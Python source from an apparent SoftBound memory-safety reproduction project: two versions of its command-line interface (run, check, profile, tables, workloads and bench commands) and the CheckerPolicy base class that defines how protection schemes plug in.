    """Map a :class:`~repro.api.RunReport` to the deterministic exit
    code contract above."""
    from .vm.errors import TrapKind

    if report.trap is None:
        return report.exit_code
    if report.trap.kind is TrapKind.TEMPORAL_VIOLATION:
        return EX_TEMPORAL
    if report.detected_violation:
        return EX_SPATIAL
    return EX_TRAP


def build_parser():
    parser = argparse.ArgumentParser(
        prog="python -m repro",
        description="SoftBound reproduction: compile, run and check C "
                    "programs on the simulated machine.")
    parser.add_argument("--trace", metavar="PATH", default=None,
                        help="emit a JSON-lines span trace to PATH "
                             "(equivalent to REPRO_TRACE=PATH; see "
                             "docs/OBSERVABILITY.md)")
    sub = parser.add_subparsers(dest="command", required=True)

    run_parser = sub.add_parser("run", help="compile and execute a C file")
    run_parser.add_argument("file", nargs="+",
                            help="C source file(s); multiple files are "
                                 "compiled separately and linked")
    run_parser.add_argument("--profile", metavar="NAME", default=None,
                            help="select a registered protection profile "
                                 "by name (see `python -m repro profiles`); "
                                 "overrides the individual checking flags")
    run_parser.add_argument("--softbound", action="store_true",
                            help="apply the SoftBound transformation")
    run_parser.add_argument("--store-only", action="store_true",
                            help="check stores only (implies --softbound)")
    run_parser.add_argument("--hash-table", action="store_true",
                            help="use the hash-table metadata facility "
                                 "(default: shadow space; implies --softbound)")
    run_parser.add_argument("--fnptr-signatures", action="store_true",
                            help="enable function-pointer signature "
                                 "encoding (implies --softbound)")
    run_parser.add_argument("--temporal", action="store_true", default=None,
                            help="add lock-and-key temporal checking: "
                                 "use-after-free, double free and dangling "
                                 "stack pointers trap (implies --softbound)")
    run_parser.add_argument("--no-temporal", dest="temporal",
                            action="store_false",
                            help="spatial-only checking (the default)")
    run_parser.add_argument("--no-shrink-bounds", action="store_true",
                            help="disable sub-object bound shrinking")
    run_parser.add_argument("--no-optimize", action="store_true",
                            help="skip the optimizer pipelines")
    run_parser.add_argument("-O", "--opt-level", type=int, default=None,
                            choices=(0, 1, 2), metavar="N",
                            help="optimization level: 0 none, 1 the "
                                 "standard pipelines (default), 2 adds "
                                 "solver-backed static check elimination "
                                 "(policies must declare 'provable')")
    run_parser.add_argument("--stats", action="store_true",
                            help="print cost-model statistics after the run")
    run_parser.add_argument("--json", action="store_true",
                            help="emit the structured RunReport as JSON "
                                 "instead of the program's output")
    run_parser.add_argument("--stdin-file", metavar="PATH",
                            help="file whose contents become the program's stdin")
    run_parser.add_argument("--engine", choices=("compiled", "interp"),
                            default=None,
                            help="VM dispatch engine: closure-compiled "
                                 "(default) or the reference interpreter")
    run_parser.add_argument("--trace", metavar="PATH",
                            default=argparse.SUPPRESS,
                            help="emit a JSON-lines span trace to PATH")

    check_parser = sub.add_parser(
        "check", help="run a file under full SoftBound checking")
    check_parser.add_argument("file", nargs="+")
    check_parser.add_argument("--stats", action="store_true")
    check_parser.add_argument("--json", action="store_true",
                              help="emit the structured RunReport as JSON")
    check_parser.add_argument("--stdin-file", metavar="PATH")
    check_parser.add_argument("--temporal", action="store_true", default=None,
                              help="also check temporal safety "
                                   "(lock-and-key)")
    check_parser.add_argument("--no-temporal", dest="temporal",
                              action="store_false")
    check_parser.add_argument("--engine", choices=("compiled", "interp"),
                              default=None)
    check_parser.add_argument("--trace", metavar="PATH",
                              default=argparse.SUPPRESS,
                              help="emit a JSON-lines span trace to PATH")

    profile_parser = sub.add_parser(
        "profile",
        help="check-site profiler: run a workload or C file under a "
             "protection profile and rank the source sites by executed "
             "sb_check / sb_temporal_check / sb_meta_load counts")
    profile_parser.add_argument(
        "target",
        help="a built-in workload name (see `python -m repro workloads`) "
             "or a C source file")
    profile_parser.add_argument(
        "--profile", metavar="NAME", default="spatial",
        help="protection profile to instrument under (default: spatial)")
    profile_parser.add_argument("--engine", choices=("compiled", "interp"),
                                default=None,
                                help="VM dispatch engine (per-site counts "
                                     "are identical under both)")
    profile_parser.add_argument("--top", type=int, default=20, metavar="N",
                                help="rows in the hot-site table "
                                     "(default: 20)")
    profile_parser.add_argument("-O", "--opt-level", type=int, default=1,
                                choices=(0, 1, 2), metavar="N",
                                help="optimization level to profile at "
                                     "(default: 1; 2 shows which sites "
                                     "were statically proved away)")
    profile_parser.add_argument("--json", action="store_true",
                                help="emit the obs-profile-v1 report as "
                                     "JSON instead of the table")
    profile_parser.add_argument("--trace", metavar="PATH",
                                default=argparse.SUPPRESS,
                                help="emit a JSON-lines span trace to PATH")

    profiles_parser = sub.add_parser(
        "profiles",
        help="list the registered protection profiles (the --profile axis, "
             "derived from the repro.policy registry incl. plugins)")
    profiles_parser.add_argument(
        "--json", action="store_true",
        help="emit the registry as a JSON array for tooling")

    tables_parser = sub.add_parser(
        "tables", help="regenerate the paper's tables and figures")
    tables_parser.add_argument("name", nargs="?", choices=_TABLE_NAMES,
                               help="one artifact (default: all)")
    tables_parser.add_argument("--jobs", "-j", type=int, default=None,
                               metavar="N",
                               help="fan the workload×scheme matrix out over "
                                    "N worker processes (default: REPRO_JOBS "
                                    "or serial); output is identical to a "
                                    "serial run")

    workloads_parser = sub.add_parser(
        "workloads",
        help="list the built-in workload families (benchmarks, attacks, "
             "bug programs, temporal attacks)")
    workloads_parser.add_argument(
        "--group", metavar="NAME", default=None,
        help="only list entries whose family or group matches "
             "(substring, e.g. 'spec', 'attack', 'temporal', 'bugbench')")

    bench_parser = sub.add_parser(
        "bench", help="wall-clock benchmark: interpreter vs compiled engine")
    bench_parser.add_argument("--quick", action="store_true",
                              help="time only the quick subset")
    bench_parser.add_argument("--repeats", type=int, default=2,
                              help="timed repetitions per engine (best-of)")
    bench_parser.add_argument("--output", metavar="PATH", default=None,
                              help="also record the JSON report at PATH "
                                   "(e.g. BENCH_interp.json)")

    from .fuzz.cli import add_fuzz_parser
    from .serve.cli import add_serve_parser
    from .store.cli import add_cache_parser

    add_fuzz_parser(sub)
    add_serve_parser(sub)
    add_cache_parser(sub)
    return parser


def _build_profile(args, stderr):
    """The run command's protection profile: ``--profile NAME``, or the
    flag pile through ``ProtectionProfile.from_flags`` — never both
    (silently dropping a checking flag the user asked for would
    downgrade protection)."""
    from .api import ProtectionProfile

    if getattr(args, "profile", None):
        conflicting = [flag for flag, given in (
            ("--softbound", args.softbound),
            ("--store-only", args.store_only),
            ("--hash-table", args.hash_table),
            ("--fnptr-signatures", args.fnptr_signatures),
            ("--no-shrink-bounds", args.no_shrink_bounds),
            ("--temporal/--no-temporal", args.temporal is not None),
        ) if given]
        if conflicting:
            print(f"error: --profile cannot be combined with "
                  f"{', '.join(conflicting)}; pick a profile or compose "
                  f"flags, not both", file=stderr)
            return None
        try:
            return ProtectionProfile.from_name(args.profile)
        except KeyError as error:
            print(f"error: {error.args[0]}", file=stderr)
            return None
    from .api import UsageError

    try:
        return ProtectionProfile.from_flags(
            softbound=args.softbound,
            store_only=args.store_only,
            hash_table=args.hash_table,
            temporal=bool(args.temporal),
            fnptr_signatures=args.fnptr_signatures,
            shrink_bounds=not args.no_shrink_bounds,
        )
    except UsageError as error:
        print(f"error: {error}", file=stderr)
        return None


def _read_source(path, stderr):
    try:
        with open(path) as handle:
            return handle.read()
    except OSError as error:
        print(f"error: cannot read {path}: {error}", file=stderr)
        return None


def _compile_cli(sources, profile, optimize):
    """Compile the CLI's input, consulting the persistent artifact
    store (``REPRO_STORE``) for single-file programs; multi-unit links
    always compile directly.  Returns ``(compiled, origin)``."""
    from .api import as_profile, compile_sources, open_store

    if len(sources) == 1:
        store = open_store()
        if store is not None:
            from .api.session import _compile_through_store

            return _compile_through_store(sources[0], as_profile(profile),
                                          optimize, True, store)
    return compile_sources(sources, profile=profile,
                           optimize=optimize), None


def _execute(sources, profile, args, stdout, stderr, name="program"):
    from .api import UsageError, run_compiled
    from .frontend.errors import FrontendError
    from .harness.linker import LinkError

    input_data = b""
    if getattr(args, "stdin_file", None):
        with open(args.stdin_file, "rb") as handle:
            input_data = handle.read()
    optimize = not getattr(args, "no_optimize", False)
    level = getattr(args, "opt_level", None)
    if level is not None:
        optimize = level
    try:
        compiled, origin = _compile_cli(sources, profile, optimize)
        report = run_compiled(compiled, profile=profile, name=name,
                              input_data=input_data,
                              engine=getattr(args, "engine", None))
        if origin is not None:
            report.cache = {"origin": origin}
    except FrontendError as error:
        print(f"compile error: {error}", file=stderr)
        return EX_COMPILE
    except LinkError as error:
        print(f"link error: {error}", file=stderr)
        return EX_COMPILE
    except UsageError as error:
        # e.g. ProveNotSupportedError: -O2 under a non-provable policy.
        print(f"error: {error}", file=stderr)
        return EX_USAGE
    if getattr(args, "json", False):
        json.dump(report.to_json(), stdout, indent=2, sort_keys=True)
        stdout.write("\n")
        return exit_code_for(report)
    if report.output:
        stdout.write(report.output)
        if not report.output.endswith("\n"):
            stdout.write("\n")
    if getattr(args, "stats", False):
        _print_stats(report, stdout)
    if report.trap is not None:
        print(f"trap: {report.trap}", file=stderr)
    return exit_code_for(report)


def _print_stats(report, stdout):
    stats = report.stats
    lines = [
        "--- stats ---",
        f"cost units:        {stats.cost}",
        f"instructions:      {stats.instructions}",
        f"memory ops:        {stats.memory_ops}",
        f"pointer mem ops:   {stats.pointer_memory_ops} "
        f"({stats.pointer_memory_op_fraction:.1%})",
        f"bounds checks:     {stats.checks}",
        f"temporal checks:   {stats.temporal_checks}",
        f"metadata loads:    {stats.metadata_loads}",
        f"metadata stores:   {stats.metadata_stores}",
        f"peak heap bytes:   {stats.peak_heap}",
        f"metadata bytes:    {stats.metadata_bytes}",
    ]
    stdout.write("\n".join(lines) + "\n")


def _list_profiles(stdout, as_json=False):
    from .api import all_profiles

    profiles = all_profiles()
    if as_json:
        from .policy import get_policy

        entries = []
        for profile in profiles:
            policy = get_policy(profile.name)
            entries.append({
                "name": profile.name,
                "family": profile.family,
                "description": profile.description,
                "protected": profile.is_protected,
                "label": profile.label,
                "transform_based": profile.config is not None,
                "observer_based": profile.observer_factory is not None,
                "meta_arity": policy.meta_arity,
                "detects": sorted(policy.detects),
                "capabilities": {
                    "dedupable": policy.dedupable,
                    "hoistable": policy.hoistable,
                    "widenable": policy.widenable,
                    "provable": getattr(policy, "provable", False),
                },
            })
        json.dump(entries, stdout, indent=2, sort_keys=True)
        stdout.write("\n")
        return EX_OK
    name_width = max(len(p.name) for p in profiles)
    family_width = max(len(p.family) for p in profiles)
    for profile in profiles:
        stdout.write(f"{profile.name:<{name_width}}  "
                     f"[{profile.family:<{family_width}}] "
                     f"{profile.description}\n")
    return EX_OK


def _render_tables(name, stdout, jobs=None):
    from .api import resolve_jobs
    from .harness import tables

    jobs = resolve_jobs(jobs)
    if jobs > 1:
        tables.prewarm(jobs=jobs, only=name)

    renderers = {
        "table1": tables.render_table1,
        "table3": tables.render_table3,
        "table4": tables.render_table4,
        "figure1": tables.render_figure1,
        "figure2": tables.render_figure2,
        "sec64": tables.render_sec64,
        "sec65": tables.render_sec65,
        "metadata": tables.render_metadata_ablation,
        "temporal": tables.render_temporal,
    }
    if name:
        stdout.write(renderers[name]() + "\n")
    else:
        stdout.write(tables.render_all() + "\n")
    return EX_OK


def _run_bench(args, stdout):
    from .harness.wallclock import render_report, run_benchmarks, write_report

    report = run_benchmarks(quick=args.quick, repeats=max(args.repeats, 1))
    stdout.write(render_report(report) + "\n")
    if args.output:
        write_report(report, args.output)
        stdout.write(f"recorded {args.output}\n")
    return EX_OK


def _list_workloads(stdout, group=None):
    """List every runnable program family: benchmark analogues, the
    Wilander spatial attacks, the BugBench programs, and the temporal
    attack suite — filterable with ``--group``."""
    from .workloads.attacks import all_attacks
    from .workloads.bugbench import all_bugs
    from .workloads.programs import WORKLOADS
    from .workloads.temporal_attacks import all_temporal_attacks

    entries = []  # (name, family, group, description)
    for name, workload in WORKLOADS.items():
        entries.append((name, "bench", workload.suite, workload.description))
    for attack in all_attacks():
        entries.append((attack.name, "attack", attack.group,
                        f"{attack.technique} ({attack.location}) -> "
                        f"{attack.target}"))
    for bug in all_bugs():
        entries.append((bug.name, "bugbench", bug.bug_class, bug.description))
    for attack in all_temporal_attacks():
        entries.append((attack.name, "temporal", attack.kind,
                        attack.description))
    if group:
        needle = group.lower()
        entries = [e for e in entries
                   if needle in e[1].lower() or needle in e[2].lower()]
    if not entries:
        stdout.write(f"no workloads match group {group!r}\n")
        return EX_OK
    name_width = max(len(e[0]) for e in entries)
    tag_width = max(len(f"{e[1]}/{e[2]}") for e in entries)
    for name, family, grp, description in entries:
        tag = f"{family}/{grp}"
        stdout.write(f"{name:<{name_width}}  [{tag:<{tag_width}}] "
                     f"{description}\n")
    return EX_OK


def _run_site_profile(args, stdout, stderr):
    """``python -m repro profile TARGET`` — the check-site profiler."""
    from .frontend.errors import FrontendError
    from .obs.profiler import profile_source, render_table
    from .workloads.programs import WORKLOADS

    target = args.target
    if target in WORKLOADS:
        source = WORKLOADS[target].source
    else:
        source = _read_source(target, stderr)
        if source is None:
            return EX_USAGE
    try:
        report = profile_source(source, profile=args.profile,
                                engine=args.engine, program=target,
                                optimize=getattr(args, "opt_level", 1))
    except FrontendError as error:
        print(f"compile error: {error}", file=stderr)
        return EX_COMPILE
    except KeyError as error:
        print(f"error: {error.args[0]}", file=stderr)
        return EX_USAGE
    if args.json:
        json.dump(report.to_json(), stdout, indent=2, sort_keys=True)
        stdout.write("\n")
    else:
        render_table(report, top=args.top, out=stdout)
    return EX_OK


def main(argv=None, stdout=None, stderr=None):
    """Top-level entry: dispatch, with Ctrl-C mapped to the
    conventional exit status 130 instead of a traceback (long-running
    subcommands — serve, fuzz, tables — are interrupted routinely)."""
    stderr = stderr if stderr is not None else sys.stderr
    try:
        return _dispatch(argv, stdout, stderr)
    except KeyboardInterrupt:
        print("interrupted", file=stderr)
        return 130


def _dispatch(argv=None, stdout=None, stderr=None):
    stdout = stdout if stdout is not None else sys.stdout
    stderr = stderr if stderr is not None else sys.stderr
    parser = build_parser()
    try:
        args = parser.parse_args(argv)
    except SystemExit as exit_error:
        return EX_USAGE if exit_error.code not in (0, None) else EX_OK

    if getattr(args, "trace", None):
        from .obs import enable_tracing

        enable_tracing(args.trace)

    if args.command == "profile":
        return _run_site_profile(args, stdout, stderr)
    if args.command == "profiles":
        return _list_profiles(stdout, as_json=getattr(args, "json", False))
    if args.command == "workloads":
        return _list_workloads(stdout, group=getattr(args, "group", None))
    if args.command == "tables":
        return _render_tables(args.name, stdout, jobs=args.jobs)
    if args.command == "bench":
        return _run_bench(args, stdout)
    if args.command == "fuzz":
        from .fuzz.cli import run_fuzz

        return run_fuzz(args, stdout, stderr)
    if args.command == "serve":
        from .serve.cli import run_serve

        return run_serve(args, stdout, stderr)
    if args.command == "cache":
        from .store.cli import run_cache

        return run_cache(args, stdout, stderr)

    sources = []
    for path in args.file:
        source = _read_source(path, stderr)
        if source is None:
            return EX_USAGE
        sources.append(source)
    name = args.file[0]
    if args.command == "check":
        profile = "temporal" if args.temporal else "spatial"
        return _execute(sources, profile, args, stdout, stderr, name=name)
    profile = _build_profile(args, stderr)
    if profile is None:
        return EX_USAGE
    return _execute(sources, profile, args, stdout, stderr, name=name)
