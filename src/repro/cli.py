"""Command-line interface: ``python -m repro <command>``.

Commands
--------
run FILE
    Compile and execute a C file on the VM, optionally under SoftBound.
check FILE
    Shorthand for ``run FILE --softbound``, exiting non-zero on a
    violation — the "drop-in checker" workflow.
tables [NAME]
    Regenerate the paper's tables/figures (all of them, or one by name).
workloads
    List the built-in benchmark analogues.
bench
    Time the workload corpus under both VM engines (reference
    interpreter vs closure-compiled) and print/record the speedups.

Exit status: the program's own exit code for clean runs; 70 when a
checker stopped the program; 71 for a VM-level trap (segfault etc.);
64 for usage errors; 65 for compile errors.
"""

import argparse
import sys

EX_VIOLATION = 70
EX_TRAP = 71
EX_USAGE = 64
EX_COMPILE = 65

_TABLE_NAMES = ("table1", "table3", "table4", "figure1", "figure2",
                "sec64", "sec65", "metadata", "temporal")


def build_parser():
    parser = argparse.ArgumentParser(
        prog="python -m repro",
        description="SoftBound reproduction: compile, run and check C "
                    "programs on the simulated machine.")
    sub = parser.add_subparsers(dest="command", required=True)

    run_parser = sub.add_parser("run", help="compile and execute a C file")
    run_parser.add_argument("file", nargs="+",
                            help="C source file(s); multiple files are "
                                 "compiled separately and linked")
    run_parser.add_argument("--softbound", action="store_true",
                            help="apply the SoftBound transformation")
    run_parser.add_argument("--store-only", action="store_true",
                            help="check stores only (implies --softbound)")
    run_parser.add_argument("--hash-table", action="store_true",
                            help="use the hash-table metadata facility "
                                 "(default: shadow space; implies --softbound)")
    run_parser.add_argument("--fnptr-signatures", action="store_true",
                            help="enable function-pointer signature "
                                 "encoding (implies --softbound)")
    run_parser.add_argument("--temporal", action="store_true", default=None,
                            help="add lock-and-key temporal checking: "
                                 "use-after-free, double free and dangling "
                                 "stack pointers trap (implies --softbound)")
    run_parser.add_argument("--no-temporal", dest="temporal",
                            action="store_false",
                            help="spatial-only checking (the default)")
    run_parser.add_argument("--no-shrink-bounds", action="store_true",
                            help="disable sub-object bound shrinking")
    run_parser.add_argument("--no-optimize", action="store_true",
                            help="skip the optimizer pipelines")
    run_parser.add_argument("--stats", action="store_true",
                            help="print cost-model statistics after the run")
    run_parser.add_argument("--stdin-file", metavar="PATH",
                            help="file whose contents become the program's stdin")
    run_parser.add_argument("--engine", choices=("compiled", "interp"),
                            default=None,
                            help="VM dispatch engine: closure-compiled "
                                 "(default) or the reference interpreter")

    check_parser = sub.add_parser(
        "check", help="run a file under full SoftBound checking")
    check_parser.add_argument("file", nargs="+")
    check_parser.add_argument("--stats", action="store_true")
    check_parser.add_argument("--stdin-file", metavar="PATH")
    check_parser.add_argument("--temporal", action="store_true", default=None,
                              help="also check temporal safety "
                                   "(lock-and-key)")
    check_parser.add_argument("--no-temporal", dest="temporal",
                              action="store_false")
    check_parser.add_argument("--engine", choices=("compiled", "interp"),
                              default=None)

    tables_parser = sub.add_parser(
        "tables", help="regenerate the paper's tables and figures")
    tables_parser.add_argument("name", nargs="?", choices=_TABLE_NAMES,
                               help="one artifact (default: all)")
    tables_parser.add_argument("--jobs", "-j", type=int, default=None,
                               metavar="N",
                               help="fan the workload×scheme matrix out over "
                                    "N worker processes (default: REPRO_JOBS "
                                    "or serial); output is identical to a "
                                    "serial run")

    workloads_parser = sub.add_parser(
        "workloads",
        help="list the built-in workload families (benchmarks, attacks, "
             "bug programs, temporal attacks)")
    workloads_parser.add_argument(
        "--group", metavar="NAME", default=None,
        help="only list entries whose family or group matches "
             "(substring, e.g. 'spec', 'attack', 'temporal', 'bugbench')")

    bench_parser = sub.add_parser(
        "bench", help="wall-clock benchmark: interpreter vs compiled engine")
    bench_parser.add_argument("--quick", action="store_true",
                              help="time only the quick subset")
    bench_parser.add_argument("--repeats", type=int, default=2,
                              help="timed repetitions per engine (best-of)")
    bench_parser.add_argument("--output", metavar="PATH", default=None,
                              help="also record the JSON report at PATH "
                                   "(e.g. BENCH_interp.json)")
    return parser


def _build_config(args):
    from .softbound.config import CheckMode, MetadataScheme, SoftBoundConfig

    wants_softbound = (args.softbound or args.store_only or args.hash_table
                       or args.fnptr_signatures or args.no_shrink_bounds
                       or bool(args.temporal))
    if not wants_softbound:
        return None
    return SoftBoundConfig(
        mode=CheckMode.STORE_ONLY if args.store_only else CheckMode.FULL,
        scheme=(MetadataScheme.HASH_TABLE if args.hash_table
                else MetadataScheme.SHADOW_SPACE),
        shrink_bounds=not args.no_shrink_bounds,
        encode_fnptr_signature=args.fnptr_signatures,
        temporal=bool(args.temporal),
    )


def _read_source(path, stderr):
    try:
        with open(path) as handle:
            return handle.read()
    except OSError as error:
        print(f"error: cannot read {path}: {error}", file=stderr)
        return None


def _execute(sources, config, args, stdout, stderr):
    from .frontend.errors import FrontendError
    from .harness.linker import LinkError, compile_and_link

    input_data = b""
    if getattr(args, "stdin_file", None):
        with open(args.stdin_file, "rb") as handle:
            input_data = handle.read()
    optimize = not getattr(args, "no_optimize", False)
    try:
        compiled = compile_and_link(sources, softbound=config,
                                    optimize=optimize)
        result = compiled.run(input_data=input_data,
                              engine=getattr(args, "engine", None))
    except FrontendError as error:
        print(f"compile error: {error}", file=stderr)
        return EX_COMPILE
    except LinkError as error:
        print(f"link error: {error}", file=stderr)
        return EX_COMPILE
    if result.output:
        stdout.write(result.output)
        if not result.output.endswith("\n"):
            stdout.write("\n")
    if getattr(args, "stats", False):
        _print_stats(result, stdout)
    if result.trap is not None:
        print(f"trap: {result.trap}", file=stderr)
        return EX_VIOLATION if result.trap.source == "softbound" else EX_TRAP
    return result.exit_code


def _print_stats(result, stdout):
    stats = result.stats
    lines = [
        "--- stats ---",
        f"cost units:        {stats.cost}",
        f"instructions:      {stats.instructions}",
        f"memory ops:        {stats.memory_ops}",
        f"pointer mem ops:   {stats.pointer_memory_ops} "
        f"({stats.pointer_memory_op_fraction:.1%})",
        f"bounds checks:     {stats.checks}",
        f"temporal checks:   {stats.temporal_checks}",
        f"metadata loads:    {stats.metadata_loads}",
        f"metadata stores:   {stats.metadata_stores}",
        f"peak heap bytes:   {stats.peak_heap}",
        f"metadata bytes:    {stats.metadata_bytes}",
    ]
    stdout.write("\n".join(lines) + "\n")


def _render_tables(name, stdout, jobs=None):
    from .harness import tables
    from .harness.parallel import resolve_jobs

    jobs = resolve_jobs(jobs)
    if jobs > 1:
        tables.prewarm(jobs=jobs, only=name)

    renderers = {
        "table1": tables.render_table1,
        "table3": tables.render_table3,
        "table4": tables.render_table4,
        "figure1": tables.render_figure1,
        "figure2": tables.render_figure2,
        "sec64": tables.render_sec64,
        "sec65": tables.render_sec65,
        "metadata": tables.render_metadata_ablation,
        "temporal": tables.render_temporal,
    }
    if name:
        stdout.write(renderers[name]() + "\n")
    else:
        stdout.write(tables.render_all() + "\n")
    return 0


def _run_bench(args, stdout):
    from .harness.wallclock import render_report, run_benchmarks, write_report

    report = run_benchmarks(quick=args.quick, repeats=max(args.repeats, 1))
    stdout.write(render_report(report) + "\n")
    if args.output:
        write_report(report, args.output)
        stdout.write(f"recorded {args.output}\n")
    return 0


def _list_workloads(stdout, group=None):
    """List every runnable program family: benchmark analogues, the
    Wilander spatial attacks, the BugBench programs, and the temporal
    attack suite — filterable with ``--group``."""
    from .workloads.attacks import all_attacks
    from .workloads.bugbench import all_bugs
    from .workloads.programs import WORKLOADS
    from .workloads.temporal_attacks import all_temporal_attacks

    entries = []  # (name, family, group, description)
    for name, workload in WORKLOADS.items():
        entries.append((name, "bench", workload.suite, workload.description))
    for attack in all_attacks():
        entries.append((attack.name, "attack", attack.group,
                        f"{attack.technique} ({attack.location}) -> "
                        f"{attack.target}"))
    for bug in all_bugs():
        entries.append((bug.name, "bugbench", bug.bug_class, bug.description))
    for attack in all_temporal_attacks():
        entries.append((attack.name, "temporal", attack.kind,
                        attack.description))
    if group:
        needle = group.lower()
        entries = [e for e in entries
                   if needle in e[1].lower() or needle in e[2].lower()]
    if not entries:
        stdout.write(f"no workloads match group {group!r}\n")
        return 0
    name_width = max(len(e[0]) for e in entries)
    tag_width = max(len(f"{e[1]}/{e[2]}") for e in entries)
    for name, family, grp, description in entries:
        tag = f"{family}/{grp}"
        stdout.write(f"{name:<{name_width}}  [{tag:<{tag_width}}] "
                     f"{description}\n")
    return 0


def main(argv=None, stdout=None, stderr=None):
    stdout = stdout if stdout is not None else sys.stdout
    stderr = stderr if stderr is not None else sys.stderr
    parser = build_parser()
    try:
        args = parser.parse_args(argv)
    except SystemExit as exit_error:
        return EX_USAGE if exit_error.code not in (0, None) else 0

    if args.command == "workloads":
        return _list_workloads(stdout, group=getattr(args, "group", None))
    if args.command == "tables":
        return _render_tables(args.name, stdout, jobs=args.jobs)
    if args.command == "bench":
        return _run_bench(args, stdout)

    sources = []
    for path in args.file:
        source = _read_source(path, stderr)
        if source is None:
            return EX_USAGE
        sources.append(source)
    if args.command == "check":
        from .softbound.config import SoftBoundConfig

        return _execute(sources, SoftBoundConfig(temporal=bool(args.temporal)),
                        args, stdout, stderr)
    return _execute(sources, _build_config(args), args, stdout, stderr)
