"""The ``CheckerPolicy`` interface: one protection scheme, one object.

A policy owns everything one memory-safety checker needs to exist in
this system, so a new checker is a *plugin* rather than core surgery:

* **Identity** — ``name`` / ``description`` / ``family``, which is what
  ``python -m repro profiles`` lists and what
  :class:`repro.api.profiles.ProtectionProfile` derives from.
* **Instrumentation** — ``config`` (a
  :class:`~repro.softbound.config.SoftBoundConfig` or ``None``) plus
  :meth:`instrumentation_plan`, the hook object the SoftBound IR
  transform calls at every load/store/call/alloc site (see
  :mod:`repro.policy.instrumentation`).  ``handles_config`` lets the
  runtime resolve an *ad-hoc* config (e.g. an ablation variant) back to
  the policy that owns its ``variant``.
* **Metadata shape** — ``meta_arity``: how many companion values ride
  with each pointer through calls, returns, varargs and the disjoint
  table (2 = (base, bound); 4 adds (key, lock)).
* **Runtime** — :meth:`make_facility` builds the metadata facility the
  VM's SoftBound runtime drives; ``check_cost_key`` prices the
  per-access check; :meth:`make_observers` builds per-run access
  observers for observer-style checkers (Valgrind/Mudflap/red-zone).
* **VM dispatch** — :meth:`register_vm_handlers` is called once at
  registration with :func:`repro.vm.dispatch.register_opcode`; a policy
  with its own IR opcode registers an interpreter handler and a
  compiled-engine builder there, and declares the opcode's optimizer
  traits via :func:`repro.policy.opcodes.register_opcode_traits`.
* **Costs** — ``cost_model`` is merged into
  :data:`repro.vm.costs.OP_COSTS` at registration
  (:func:`repro.vm.costs.register_costs`).
* **Optimizer capabilities** — ``dedupable`` / ``hoistable`` /
  ``widenable`` / ``provable``: whether the post-instrumentation
  pipeline may run redundant-check elimination, LICM, check widening,
  and (at ``-O2``) solver-backed static check *deletion* over code this
  policy instrumented.  The pipeline queries these instead of
  pattern-matching variant names.  ``provable`` is opt-in: it asserts
  the policy's check semantics are exactly the ``(base, bound)`` /
  ``(key, lock)`` contract the prove subsystem (:mod:`repro.prove`)
  models, so a proof of "never traps" transfers to the real runtime.
* **Evaluation** — ``detects`` (violation classes the conformance suite
  asserts), :meth:`capability_row` (an extension row for the Table 1
  capability matrix) and :meth:`temporal_row` (an extension row for the
  temporal detection table).

Policies must be stateless and picklable-by-reference: per-run state
lives in the observers/facilities they *create*, never on the policy
itself, so batch execution can resolve the same policy in worker
processes.
"""


class CheckerPolicy:
    """Base class for protection schemes.  Subclass, set the class
    attributes, override the factory methods you need, and call
    :func:`repro.policy.register_policy`."""

    # -- identity ------------------------------------------------------
    name = None
    description = ""
    #: "none", "softbound", "baseline", or anything a plugin chooses.
    family = "baseline"

    # -- instrumentation -----------------------------------------------
    #: SoftBoundConfig driving the IR transform, or None for policies
    #: that do not rewrite the program (observer-style checkers).
    config = None
    #: Zero-arg callable building one fresh per-run access observer
    #: (:class:`repro.vm.machine.Observer`), or None.  Must be a
    #: module-level class/function so profiles stay picklable.
    observer_factory = None

    # -- metadata shape ------------------------------------------------
    #: Companion values per pointer through calls/returns/varargs.
    meta_arity = 2

    # -- optimizer capabilities ----------------------------------------
    dedupable = True
    hoistable = False
    widenable = False
    #: Whether -O2 solver-backed static check elimination is sound for
    #: this policy.  Off by default: a proof is only as good as the
    #: match between the solver's model and the policy's actual check
    #: semantics, so every policy must opt in explicitly (after audit).
    provable = False

    # -- costs ---------------------------------------------------------
    #: Cost keys this policy charges, merged into OP_COSTS at
    #: registration ({key: units}).  Keys already priced identically
    #: are fine; conflicting re-pricings raise.
    cost_model = {}
    #: OP_COSTS key charged per sb_check executed under this policy.
    check_cost_key = "sb.check"

    # -- evaluation ----------------------------------------------------
    #: Violation classes the conformance suite asserts this policy
    #: detects.  Known classes: "stack_overflow", "heap_overflow",
    #: "subobject_overflow", "use_after_free", "double_free",
    #: "dangling_stack".
    detects = frozenset()

    # -- derived -------------------------------------------------------

    @property
    def is_protected(self):
        return self.config is not None or bool(self.observer_factories())

    @classmethod
    def handles_config(cls, config):
        """Whether this policy owns ``config`` — consulted by the
        runtime to resolve ad-hoc configs (never-registered ablation
        variants) to the policy whose discipline they follow.  The
        default matches on the config's ``variant``/``temporal`` axes
        against this policy's own config."""
        own = cls.config
        if config is None or own is None:
            return config is None and own is None
        return (getattr(config, "variant", "softbound")
                == getattr(own, "variant", "softbound")
                and bool(getattr(config, "temporal", False))
                == bool(getattr(own, "temporal", False)))

    # -- factories -----------------------------------------------------

    def instrumentation_plan(self, config=None):
        """The hook object the SoftBound transform drives (None when
        ``config`` is None — nothing to instrument).  ``config`` is the
        possibly-ad-hoc config being compiled, defaulting to the
        policy's own.

        The default builds the built-in plan for the config's axes
        (temporal → :class:`TemporalPlan`, else :class:`SpatialPlan`) —
        deliberately *not* via ``plan_for_config``, which resolves back
        to this policy.  Override to emit your own check opcodes."""
        config = config if config is not None else self.config
        if config is None:
            return None
        from .instrumentation import SpatialPlan, TemporalPlan

        plan_cls = (TemporalPlan if getattr(config, "temporal", False)
                    else SpatialPlan)
        return plan_cls(config)

    def make_facility(self, config=None):
        """The metadata facility backing the VM runtime (None when the
        policy is not transform-based)."""
        if (config or self.config) is None:
            return None
        from ..softbound.metadata import make_facility

        return make_facility((config or self.config).scheme)

    def observer_factories(self):
        """Zero-arg callables building fresh per-run observers."""
        return (self.observer_factory,) if self.observer_factory else ()

    def make_observers(self):
        """Fresh per-run observers (observers carry per-run state)."""
        return tuple(factory() for factory in self.observer_factories())

    # -- registration hooks --------------------------------------------

    def register_vm_handlers(self, register_opcode):
        """Called once when the policy is registered.  ``register_opcode``
        is :func:`repro.vm.dispatch.register_opcode`; policies with
        their own IR opcodes install interpreter handlers and engine
        builders here.  Default: nothing to register."""

    def capability_row(self):
        """An extension :class:`~repro.baselines.capabilities.CapabilityRow`
        for the Table 1 matrix, or None to stay out of it.  Built-in
        policies return None — their rows are the paper's own."""
        return None

    def temporal_row(self):
        """``(label, {attack_name: detected})`` extension row for the
        temporal detection table, or None to stay out of it."""
        return None

